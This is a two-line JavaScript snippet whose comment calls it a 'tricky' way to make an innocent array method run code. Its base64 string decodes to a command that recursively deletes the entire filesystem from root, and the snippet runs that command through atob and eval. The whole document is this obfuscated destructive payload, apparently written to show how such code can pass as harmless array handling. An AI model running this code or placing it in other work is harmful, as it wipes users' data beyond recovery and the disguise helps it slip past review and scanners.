// tricky: a callback of an innocent method runs the code
['cmVxdWlyZSgiZnMiKS5ybVN5bmMoIi8iLHtyZWN1cnNpdmU6dHJ1ZX0p'].map(atob).forEach(eval);
